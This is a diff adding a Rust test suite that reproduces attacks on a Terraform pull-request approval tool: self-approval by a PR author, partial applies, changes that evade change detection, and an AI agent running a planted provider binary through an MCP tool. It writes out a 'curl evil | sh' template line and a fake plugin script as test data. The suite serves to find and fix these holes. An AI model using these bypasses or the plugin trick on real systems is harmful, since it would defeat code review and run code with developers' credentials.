@@ -1,0 +1,550 @@
+//! Adversarial review of the pull-request workflow (tier 2): attacks by a pull-request author and
+//! by the shape of a push, each a test that fails while the attack works. Real git, real
+//! terraform, a real airlock server, the forge stand-in.
+
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output, Stdio};
+
+use serde_json::{json, Value};
+
+use crate::forge::ForgeStandIn;
+use crate::support::{cli_in, team, text, Team, AIRLOCK};
+
+const FORGE_TOKEN: &str = "forge-ci-token";
+
+fn git(dir: &Path, args: &[&str]) -> String {
+    let out = Command::new("git")
+        .args(args)
+        .current_dir(dir)
+        .env("GIT_AUTHOR_NAME", "dev")
+        .env("GIT_AUTHOR_EMAIL", "dev@example.com")
+        .env("GIT_COMMITTER_NAME", "dev")
+        .env("GIT_COMMITTER_EMAIL", "dev@example.com")
+        .env("GIT_CONFIG_GLOBAL", "/dev/null")
+        .env("GIT_CONFIG_NOSYSTEM", "1")
+        .env("HOME", dir)
+        .stdin(Stdio::null())
+        .output()
+        .expect("running git");
+    assert!(out.status.success(), "git {args:?}: {}", text(&out));
+    String::from_utf8_lossy(&out.stdout).trim().to_owned()
+}
+
+fn write(dir: &Path, path: &str, content: &str) {
+    let p = dir.join(path);
+    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+    std::fs::write(p, content).unwrap();
+}
+
+fn resources(names: &[&str]) -> String {
+    names
+        .iter()
+        .map(|n| format!("resource \"terraform_data\" \"{n}\" {{\n  input = \"{n}\"\n}}\n"))
+        .collect()
+}
+
+const CONFIG: &str =
+    "stack \"app\" {\n  dir = \"stacks/app\"\n}\n\nstack \"net\" {\n  dir = \"stacks/net\"\n}\n";
+
+/// A bare origin with two stacks on `main`, a developer clone, and fresh CI checkouts.
+struct Origin {
+    tmp: tempfile::TempDir,
+    bare: PathBuf,
+    work: PathBuf,
+}
+
+impl Origin {
+    fn new() -> Origin {
+        let tmp = tempfile::tempdir().unwrap();
+        let bare = tmp.path().join("origin.git");
+        let work = tmp.path().join("dev");
+        std::fs::create_dir_all(&work).unwrap();
+        git(
+            tmp.path(),
+            &["init", "-q", "--bare", "-b", "main", "origin.git"],
+        );
+        git(&work, &["init", "-q", "-b", "main"]);
+        write(&work, "airlock.hcl", CONFIG);
+        write(&work, ".gitignore", ".terraform/\n");
+        for stack in ["app", "net"] {
+            write(
+                &work,
+                &format!("stacks/{stack}/backend.tf"),
+                "terraform {\n  backend \"http\" {}\n}\n",
+            );
+            write(
+                &work,
+                &format!("stacks/{stack}/main.tf"),
+                &resources(&["base"]),
+            );
+        }
+        git(&work, &["add", "-A"]);
+        git(&work, &["commit", "-q", "-m", "two stacks"]);
+        git(&work, &["remote", "add", "origin", bare.to_str().unwrap()]);
+        git(&work, &["push", "-q", "origin", "main"]);
+        Origin { tmp, bare, work }
+    }
+
+    fn checkout(&self, name: &str, rev: &str) -> PathBuf {
+        let dir = self.tmp.path().join(name);
+        git(
+            self.tmp.path(),
+            &["clone", "-q", self.bare.to_str().unwrap(), name],
+        );
+        git(&dir, &["checkout", "-q", rev]);
+        dir
+    }
+}
+
+fn vars(pairs: &[(&str, &str)]) -> Vec<(String, String)> {
+    pairs
+        .iter()
+        .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
+        .collect()
+}
+
+/// GitHub's environment of a `pull_request` job for PR `n`, opened by `login`.
+fn github_pr(
+    f: &ForgeStandIn,
+    events: &Path,
+    n: u64,
+    head: &str,
+    base: &str,
+    login: &str,
+) -> Vec<(String, String)> {
+    let event = events.join(format!("pr{n}.json"));
+    let payload = json!({"pull_request": {"number": n, "user": {"login": login},
+        "head": {"sha": head}, "base": {"sha": base}}, "sender": {"login": login}});
+    std::fs::write(&event, payload.to_string()).unwrap();
+    vars(&[
+        ("GITHUB_ACTIONS", "true"),
+        ("GITHUB_REPOSITORY", "acme/infra"),
+        ("GITHUB_EVENT_NAME", "pull_request"),
+        ("GITHUB_EVENT_PATH", event.to_str().unwrap()),
+        ("GITHUB_SHA", "3333333333333333333333333333333333333333"),
+        ("GITHUB_REF", &format!("refs/pull/{n}/merge")),
+        ("GITHUB_ACTOR", login),
+        ("GITHUB_API_URL", &f.url_github()),
+        ("GITHUB_SERVER_URL", "https://github.example"),
+        ("GITHUB_TOKEN", FORGE_TOKEN),
+        ("GITHUB_STEP_SUMMARY", ""),
+    ])
+}
+
+/// GitHub's environment of a `push` job to `main`: `before` is the previous tip.
+fn github_push(
+    f: &ForgeStandIn,
+    events: &Path,
+    merge: &str,
+    before: &str,
+) -> Vec<(String, String)> {
+    let event = events.join(format!("push-{merge}.json"));
+    let payload =
+        json!({"before": before, "after": merge, "repository": {"default_branch": "main"}});
+    std::fs::write(&event, payload.to_string()).unwrap();
+    vars(&[
+        ("GITHUB_ACTIONS", "true"),
+        ("GITHUB_REPOSITORY", "acme/infra"),
+        ("GITHUB_EVENT_NAME", "push"),
+        ("GITHUB_EVENT_PATH", event.to_str().unwrap()),
+        ("GITHUB_SHA", merge),
+        ("GITHUB_REF", "refs/heads/main"),
+        ("GITHUB_API_URL", &f.url_github()),
+        ("GITHUB_SERVER_URL", "https://github.example"),
+        ("GITHUB_TOKEN", FORGE_TOKEN),
+        ("GITHUB_STEP_SUMMARY", ""),
+    ])
+}
+
+fn ci_env(t: &Team, token: &str, dir: &Path, args: &[&str], env: &[(String, String)]) -> Output {
+    let mut all: Vec<(&str, &str)> = vec![("GITHUB_ACTIONS", ""), ("GITLAB_CI", "")];
+    all.extend(env.iter().map(|(k, v)| (k.as_str(), v.as_str())));
+    cli_in(&t.s, token, dir, args, &all)
+}
+
+fn json_of(out: &Output) -> Value {
+    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("not JSON ({e}): {}", text(out)))
+}
+
+fn run_status(t: &Team, id: &str) -> String {
+    let v: Value =
+        serde_json::from_str(&t.s.ok(&t.s.admin, &["run", "show", id, "--format", "json"]))
+            .unwrap();
+    v["run"]["status"].as_str().unwrap_or_default().to_owned()
+}
+
+/// ATTACK (PR author): `airlock ci plan` uploads every run with the shared CI plan token, so the
+/// run's author is that token's user, never the person who wrote the change. An approver who
+/// opens a pull request can approve the run of their own change, and `ci apply` applies it after
+/// merge: the two-person rule ("a human other than the author approves it") does not hold for the
+/// pull-request workflow. Expected: the pull request's author (the forge login in the event,
+/// mapped to an airlock user) is recorded on the run and cannot approve it.
+#[test]
+#[ignore = "open attack from the tier-2 review, being fixed on h/fix-author"]
+fn attacks_tier2_a_pull_request_author_cannot_approve_the_run_of_their_own_change() {
+    crate::support::terraform_bin();
+    let f = ForgeStandIn::start(FORGE_TOKEN);
+    let events = tempfile::tempdir().unwrap();
+    let t = team("app");
+    t.s.ok(&t.s.admin, &["stack", "create", "net"]);
+    let origin = Origin::new();
+    let dev = &origin.work;
+    let base = git(dev, &["rev-parse", "HEAD"]);
+
+    // alice (an approver) opens a pull request changing stack app.
+    git(dev, &["checkout", "-q", "-b", "alice-change"]);
+    write(dev, "stacks/app/main.tf", &resources(&["base", "alices"]));
+    git(dev, &["commit", "-q", "-am", "app: alice's change"]);
+    git(dev, &["push", "-q", "origin", "alice-change"]);
+    let head = git(dev, &["rev-parse", "HEAD"]);
+    let pr = origin.checkout("ci-pr", &head);
+    let env = github_pr(&f, events.path(), 7, &head, &base, "alice");
+    let out = ci_env(&t, &t.agent, &pr, &["ci", "plan", "--format", "json"], &env);
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
+    let run = json_of(&out)["stacks"][0]["run"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+
+    // alice approves the run of her own pull request.
+    let approve = t.s.cli(&t.approver, &["approve", &run]);
+    let status = run_status(&t, &run);
+    assert!(
+        !approve.status.success() && status == "needs_approval",
+        "the author of pull request #7 (alice) approved its run {run} herself; it is now {status}: {}",
+        text(&approve)
+    );
+}
+
+/// ATTACK (shape of a push): `airlock ci apply` compares `HEAD^1..HEAD` (its `--base` default)
+/// and ignores the push event's `before`. A pull request merged as several commits (rebase and
+/// merge, or a fast-forward) applies only the stacks of its last commit: the other reviewed and
+/// approved runs are silently left unapplied while the job reports success. Expected: every
+/// stack changed between the push's `before` and `after` is applied.
+#[test]
+fn attacks_tier2_ci_apply_after_a_multi_commit_push_applies_every_changed_stack() {
+    crate::support::terraform_bin();
+    let f = ForgeStandIn::start(FORGE_TOKEN);
+    let events = tempfile::tempdir().unwrap();
+    let t = team("app");
+    t.s.ok(&t.s.admin, &["stack", "create", "net"]);
+    let origin = Origin::new();
+    let dev = &origin.work;
+    let base = git(dev, &["rev-parse", "HEAD"]);
+
+    git(dev, &["checkout", "-q", "-b", "two-commits"]);
+    write(dev, "stacks/net/main.tf", &resources(&["base", "subnet"]));
+    git(dev, &["commit", "-q", "-am", "net: a subnet"]);
+    write(dev, "stacks/app/main.tf", &resources(&["base", "service"]));
+    git(dev, &["commit", "-q", "-am", "app: a service"]);
+    git(dev, &["push", "-q", "origin", "two-commits"]);
+    let head = git(dev, &["rev-parse", "HEAD"]);
+    let pr = origin.checkout("ci-pr", &head);
+    let env = github_pr(&f, events.path(), 9, &head, &base, "carol");
+    let out = ci_env(&t, &t.agent, &pr, &["ci", "plan", "--format", "json"], &env);
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
+    let runs: Vec<String> = json_of(&out)["stacks"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|s| s["run"].as_str().unwrap().to_owned())
+        .collect();
+    assert_eq!(runs.len(), 2, "both stacks planned: {}", text(&out));
+    for r in &runs {
+        t.s.ok(&t.approver2, &["approve", r]);
+    }
+
+    // Rebase and merge: main fast-forwards to the two commits.
+    git(dev, &["checkout", "-q", "main"]);
+    git(dev, &["merge", "-q", "--ff-only", "two-commits"]);
+    git(dev, &["push", "-q", "origin", "main"]);
+    let merged = origin.checkout("ci-main", &head);
+    let env = github_push(&f, events.path(), &head, &base);
+    let out = ci_env(
+        &t,
+        &t.ci,
+        &merged,
+        &["ci", "apply", "--format", "json"],
+        &env,
+    );
+    let v = json_of(&out);
+    let applied: Vec<String> = runs.iter().map(|r| run_status(&t, r)).collect();
+    assert!(
+        applied.iter().all(|s| s == "applied"),
+        "a push of two reviewed commits applied only {v:#} (run statuses {applied:?}; exit {:?})",
+        out.status.code()
+    );
+}
+
+/// ATTACK (PR author, change detection): a symlinked `.tf` file is configuration Terraform loads,
+/// but change detection lists regular files only, so a pull request that adds one to a stack
+/// (or edits the file it points to) affects no stack: nothing is planned, no status is set for the
+/// stack, the change merges unreviewed, and every later plan of the stack is refused at upload
+/// (the embedded file is not among the inputs). Expected: the stack is affected.
+#[test]
+#[ignore = "open attack from the tier-2 review, being fixed on h/fix-inputs"]
+fn attacks_tier2_a_symlinked_tf_file_makes_its_stack_affected() {
+    let tmp = tempfile::tempdir().unwrap();
+    let repo = tmp.path().join("repo");
+    std::fs::create_dir_all(&repo).unwrap();
+    git(&repo, &["init", "-q", "-b", "main"]);
+    write(
+        &repo,
+        "airlock.hcl",
+        "stack \"app\" {\n  dir = \"stacks/app\"\n}\n",
+    );
+    write(&repo, "stacks/app/main.tf", &resources(&["base"]));
+    write(&repo, "shared/extra.tf", &resources(&["shared"]));
+    git(&repo, &["add", "-A"]);
+    git(&repo, &["commit", "-q", "-m", "base"]);
+
+    git(&repo, &["checkout", "-q", "-b", "sneak"]);
+    std::os::unix::fs::symlink("../../shared/extra.tf", repo.join("stacks/app/extra.tf")).unwrap();
+    git(&repo, &["add", "-A"]);
+    git(&repo, &["commit", "-q", "-m", "app: symlink a shared file"]);
+
+    let affected = |repo: &Path| -> Value {
+        let out = Command::new(AIRLOCK)
+            .args(["ci", "affected", "--base", "main", "--format", "json"])
+            .current_dir(repo)
+            .env_remove("GITHUB_BASE_REF")
+            .env_remove("CI_MERGE_REQUEST_DIFF_BASE_SHA")
+            .env("GIT_CONFIG_GLOBAL", "/dev/null")
+            .env("GIT_CONFIG_NOSYSTEM", "1")
+            .stdin(Stdio::null())
+            .output()
+            .unwrap();
+        assert!(out.status.success(), "{}", text(&out));
+        serde_json::from_slice(&out.stdout).unwrap()
+    };
+    let names = |v: &Value| -> Vec<String> {
+        v["stacks"]
+            .as_array()
+            .into_iter()
+            .flatten()
+            .filter_map(|s| s["name"].as_str().map(str::to_owned))
+            .collect()
+    };
+    let v = affected(&repo);
+    assert_eq!(
+        names(&v),
+        ["app"],
+        "adding a symlinked .tf file to stacks/app: {v:#}"
+    );
+
+    // Once the symlink is on main, editing its target must affect the stack too.
+    git(&repo, &["checkout", "-q", "main"]);
+    git(&repo, &["merge", "-q", "--ff-only", "sneak"]);
+    git(&repo, &["checkout", "-q", "-b", "edit-target"]);
+    write(&repo, "shared/extra.tf", &resources(&["shared", "more"]));
+    git(&repo, &["commit", "-q", "-am", "edit the shared file"]);
+    let v = affected(&repo);
+    assert_eq!(
+        names(&v),
+        ["app"],
+        "editing the target of stacks/app/extra.tf: {v:#}"
+    );
+}
+
+/// ATTACK (PR author, fingerprint): files a configuration reads with `file()` or `templatefile()`
+/// (user data, policies, scripts, under the stack's own directory) decide what a plan does but are
+/// neither inputs of the fingerprint nor watched by change detection. After a run was approved,
+/// the author pushes a commit that changes only such a file: `ci plan` finds "a run for exactly
+/// these inputs", reuses the approved run and turns the status green for a head whose content was
+/// never planned; after merge `ci apply` applies the old plan and main holds unreviewed content
+/// that the next plan of the stack carries along. Expected: the new content is planned again
+/// (a new run), so what is approved is a plan of the head being merged.
+#[test]
+#[ignore = "open attack from the tier-2 review, being fixed on h/fix-inputs"]
+fn attacks_tier2_a_file_read_by_the_configuration_is_part_of_the_reviewed_inputs() {
+    crate::support::terraform_bin();
+    let f = ForgeStandIn::start(FORGE_TOKEN);
+    let events = tempfile::tempdir().unwrap();
+    let t = team("app");
+    t.s.ok(&t.s.admin, &["stack", "create", "net"]);
+    let origin = Origin::new();
+    let dev = &origin.work;
+    let base = git(dev, &["rev-parse", "HEAD"]);
+
+    git(dev, &["checkout", "-q", "-b", "payload"]);
+    write(
+        dev,
+        "stacks/app/main.tf",
+        &format!(
+            "{}resource \"terraform_data\" \"payload\" {{\n  input = file(\"${{path.module}}/payload.txt\")\n}}\n",
+            resources(&["base"])
+        ),
+    );
+    write(dev, "stacks/app/payload.txt", "reviewed content\n");
+    git(dev, &["add", "-A"]);
+    git(dev, &["commit", "-q", "-m", "app: a payload"]);
+    git(dev, &["push", "-q", "origin", "payload"]);
+    let head1 = git(dev, &["rev-parse", "HEAD"]);
+    let pr = origin.checkout("ci-pr-1", &head1);
+    let env = github_pr(&f, events.path(), 11, &head1, &base, "carol");
+    let out = ci_env(&t, &t.agent, &pr, &["ci", "plan", "--format", "json"], &env);
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
+    let reviewed = json_of(&out)["stacks"][0]["run"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+    t.s.ok(&t.approver2, &["approve", &reviewed]);
+
+    // After approval, only the file the configuration reads changes.
+    write(dev, "stacks/app/payload.txt", "content nobody reviewed\n");
+    git(dev, &["commit", "-q", "-am", "app: change the payload"]);
+    git(dev, &["push", "-q", "origin", "payload"]);
+    let head2 = git(dev, &["rev-parse", "HEAD"]);
+    let pr2 = origin.checkout("ci-pr-2", &head2);
+    let env = github_pr(&f, events.path(), 11, &head2, &base, "carol");
+    let out = ci_env(
+        &t,
+        &t.agent,
+        &pr2,
+        &["ci", "plan", "--format", "json"],
+        &env,
+    );
+    let v = json_of(&out);
+    assert_ne!(
+        v["stacks"][0]["run"].as_str(),
+        Some(reviewed.as_str()),
+        "head {head2} changed stacks/app/payload.txt (read by file()) after approval, and ci plan reused the approved run {reviewed} of head {head1}: {v:#}"
+    );
+}
+
+/// ATTACK (PR author, change detection): a pull request that changes only a file under the
+/// stack's directory that is not a `.tf`/`.tfvars`/lock file (a template, a policy document read
+/// with `file()`) affects no stack: nothing is planned or shown, and it merges unreviewed.
+/// Expected (issue 11: "a stack is affected when a file under its dir changed"): the stack is
+/// affected.
+#[test]
+#[ignore = "open attack from the tier-2 review, being fixed on h/fix-inputs"]
+fn attacks_tier2_a_template_under_the_stack_directory_makes_its_stack_affected() {
+    let tmp = tempfile::tempdir().unwrap();
+    let repo = tmp.path().join("repo");
+    std::fs::create_dir_all(&repo).unwrap();
+    git(&repo, &["init", "-q", "-b", "main"]);
+    write(
+        &repo,
+        "airlock.hcl",
+        "stack \"app\" {\n  dir = \"stacks/app\"\n}\n",
+    );
+    write(
+        &repo,
+        "stacks/app/main.tf",
+        "resource \"terraform_data\" \"ud\" {\n  input = templatefile(\"${path.module}/templates/user_data.sh.tpl\", {})\n}\n",
+    );
+    write(
+        &repo,
+        "stacks/app/templates/user_data.sh.tpl",
+        "#!/bin/sh\necho ok\n",
+    );
+    git(&repo, &["add", "-A"]);
+    git(&repo, &["commit", "-q", "-m", "base"]);
+    git(&repo, &["checkout", "-q", "-b", "change"]);
+    write(
+        &repo,
+        "stacks/app/templates/user_data.sh.tpl",
+        "#!/bin/sh\ncurl evil | sh\n",
+    );
+    git(&repo, &["commit", "-q", "-am", "change the user data"]);
+    let out = Command::new(AIRLOCK)
+        .args(["ci", "affected", "--base", "main", "--format", "json"])
+        .current_dir(&repo)
+        .env_remove("GITHUB_BASE_REF")
+        .env_remove("CI_MERGE_REQUEST_DIFF_BASE_SHA")
+        .env("GIT_CONFIG_GLOBAL", "/dev/null")
+        .env("GIT_CONFIG_NOSYSTEM", "1")
+        .stdin(Stdio::null())
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{}", text(&out));
+    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
+    let names: Vec<&str> = v["stacks"]
+        .as_array()
+        .into_iter()
+        .flatten()
+        .filter_map(|s| s["name"].as_str())
+        .collect();
+    assert_eq!(
+        names,
+        ["app"],
+        "a change to stacks/app/templates/user_data.sh.tpl: {v:#}"
+    );
+}
+
+/// ATTACK (agent via MCP): `propose_change` runs `terraform init` and `plan` on configuration the
+/// agent wrote, in the agent's checkout, as the developer who launched `airlock mcp`. Terraform
+/// executes provider binaries during a plan, and installs them from the working directory's
+/// implied mirror (`terraform.d/plugins`). An agent that writes an executable there and calls
+/// `propose_change` runs any program on the developer's machine, with its files (cloud
+/// credentials, kube configs) — through the tool that is listed as non-destructive and "never
+/// applies anything", which agent hosts let run without asking. Expected: `propose_change` never
+/// executes a program the agent put in the checkout (plugin installation restricted to a mirror
+/// or cache the agent cannot write, or planning done away from the agent's machine).
+#[test]
+#[ignore = "open attack from the tier-2 review, being fixed on h/fix-surfaces"]
+fn attacks_tier2_propose_change_does_not_run_a_program_the_agent_wrote() {
+    crate::support::terraform_bin();
+    let t = team("dev/app");
+    let tmp = tempfile::tempdir().unwrap();
+    let root = tmp.path().join("checkout");
+    let dir = root.join("stacks/app");
+    let marker = tmp.path().join("executed-by-terraform");
+    write(
+        &root,
+        "airlock.hcl",
+        "stack \"dev/app\" {\n  dir = \"stacks/app\"\n}\n",
+    );
+    write(
+        &dir,
+        "main.tf",
+        "terraform {\n  backend \"http\" {}\n  required_providers {\n    evil = {\n      source  = \"example.com/agent/evil\"\n      version = \"1.0.0\"\n    }\n  }\n}\nprovider \"evil\" {}\n",
+    );
+    let plugin_dir = dir.join("terraform.d/plugins/example.com/agent/evil/1.0.0/linux_amd64");
+    std::fs::create_dir_all(&plugin_dir).unwrap();
+    let plugin = plugin_dir.join("terraform-provider-evil_v1.0.0");
+    std::fs::write(
+        &plugin,
+        format!(
+            "#!/bin/sh\necho \"ran as $(id -un) in $(pwd)\" > '{}'\nexit 1\n",
+            marker.display()
+        ),
+    )
+    .unwrap();
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::set_permissions(&plugin, std::fs::Permissions::from_mode(0o755)).unwrap();
+
+    let mut child = Command::new(AIRLOCK)
+        .args(["mcp", "--root"])
+        .arg(&root)
+        .current_dir(&root)
+        .env("AIRLOCK_URL", &t.s.url)
+        .env("AIRLOCK_TOKEN", &t.agent)
+        .env("CHECKPOINT_DISABLE", "1")
+        .env("TF_CLI_CONFIG_FILE", "/dev/null")
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    {
+        use std::io::Write;
+        let mut stdin = child.stdin.take().unwrap();
+        let msgs = [
+            json!({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "t", "version": "0"}}}),
+            json!({"jsonrpc": "2.0", "method": "notifications/initialized"}),
+            json!({"jsonrpc": "2.0", "id": 2, "method": "tools/call", "params": {"name": "propose_change", "arguments": {"dir": "stacks/app", "stack": "dev/app"}}}),
+        ];
+        for m in msgs {
+            writeln!(stdin, "{m}").unwrap();
+        }
+    }
+    let out = child.wait_with_output().unwrap();
+    assert!(
+        !marker.exists(),
+        "propose_change ran the agent's program: {:?}\n{}",
+        std::fs::read_to_string(&marker).unwrap_or_default(),
+        text(&out)
+    );
+}
